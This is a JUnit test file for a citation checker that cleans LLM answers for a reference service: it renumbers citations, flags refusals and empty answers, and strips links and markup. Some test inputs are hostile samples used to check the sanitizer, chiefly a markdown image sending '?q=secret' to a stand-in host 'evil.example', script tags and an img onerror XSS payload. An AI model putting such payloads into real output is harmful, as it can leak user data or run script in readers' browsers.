package org.refdesk.answer.llm;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CitationCheckerTest {

    private final CitationChecker checker = new CitationChecker();

    @Test
    void should_keep_a_well_cited_answer_and_its_numbers() {
        // given
        String raw = "“The Other Migrant Crisis” studies migrant workers in the MENA region [1]. Domestic workers are most at risk [2].";

        // when
        CitationChecker.Checked checked = checker.check(raw, 3);

        // then
        assertThat(checked.usable()).isTrue();
        assertThat(checked.text()).isEqualTo(raw);
        assertThat(checked.cited()).containsExactly(1, 2);
    }

    @Test
    void should_remove_citation_numbers_that_are_not_among_the_sources() {
        // when
        CitationChecker.Checked checked = checker.check("Victims are often recruited online [9]. Debt bondage persists [2].", 3);

        // then
        assertThat(checked.text()).isEqualTo("Victims are often recruited online. Debt bondage persists [1].");
        assertThat(checked.cited()).containsExactly(2);
    }

    @Test
    void should_renumber_in_order_of_first_citation() {
        // when
        CitationChecker.Checked checked = checker.check("A [3]. B [1]. C [3][1].", 3);

        // then
        assertThat(checked.text()).isEqualTo("A [1]. B [2]. C [1][2].");
        assertThat(checked.cited()).containsExactly(3, 1);
    }

    @Test
    void should_split_grouped_and_named_citations() {
        // when
        CitationChecker.Checked checked = checker.check("A [1, 2]. B [Source 3]. C [2-3]. D [0, 7].", 3);

        // then
        assertThat(checked.text()).isEqualTo("A [1][2]. B [3]. C [2][3]. D.");
    }

    @Test
    void should_fall_back_when_no_valid_citation_is_left() {
        // when
        CitationChecker.Checked checked = checker.check("Trafficking is a crime [7].", 2);

        // then
        assertThat(checked.usable()).isFalse();
        assertThat(checked.problem()).isEqualTo("no valid citation");
    }

    @ParameterizedTest
    @ValueSource(strings = {"NO_ANSWER", "I'm sorry, I cannot answer that from these sources [1].",
            "The sources do not say anything about Peru [1].", "I don't know [1]."})
    void should_treat_a_refusal_as_unusable(String raw) {
        // when
        CitationChecker.Checked checked = checker.check(raw, 2);

        // then
        assertThat(checked.problem()).isEqualTo("the model declined to answer");
    }

    @Test
    void should_remove_markdown_images_to_outside_hosts() {
        // when
        CitationChecker.Checked checked = checker.check(
                "See the report [1]. ![tracking](https://evil.example/pixel.png?q=secret) More [1].", 1);

        // then
        assertThat(checked.text()).isEqualTo("See the report [1]. More [1].");
        assertThat(checked.text()).doesNotContain("evil", "](");
    }

    @Test
    void should_keep_link_text_but_drop_link_targets_and_bare_urls() {
        // when
        String text = checker.check("Read [the report](https://evil.example/x) [1]. Also www.evil.example/a and "
                + "http://evil.example. Based on data: surveys [2].", 2).text();

        // then
        assertThat(text).isEqualTo("Read the report [1]. Also and. Based on data: surveys [2].");
    }

    @Test
    void should_remove_raw_html_and_scripts() {
        // when
        String text = checker.check("<b>Bold</b> claim [1].<script>alert(1)</script> <img src=x onerror=alert(1)>"
                + "<a href=\"https://evil.example\">click</a> <https://evil.example>", 1).text();

        // then
        assertThat(text).isEqualTo("Bold claim [1]. click");
    }

    @Test
    void should_remove_reference_style_images_and_definitions() {
        // when
        String text = checker.check("Fact [1]. ![x][pic]\n[pic]: https://evil.example/p.png", 1).text();

        // then
        assertThat(text).isEqualTo("Fact [1].");
    }

    @Test
    void should_keep_numbers_in_prose_and_comparison_signs() {
        // when
        String text = checker.check("In 2017, fewer than < 5% of cases [1] were prosecuted (see [2]).", 2).text();

        // then
        assertThat(text).isEqualTo("In 2017, fewer than < 5% of cases [1] were prosecuted (see [2]).");
    }

    @Test
    void should_say_an_empty_answer_is_unusable() {
        assertThat(checker.check("  ", 3).problem()).isEqualTo("empty answer");
        assertThat(checker.check(null, 3).cited()).isEqualTo(List.of());
    }
}
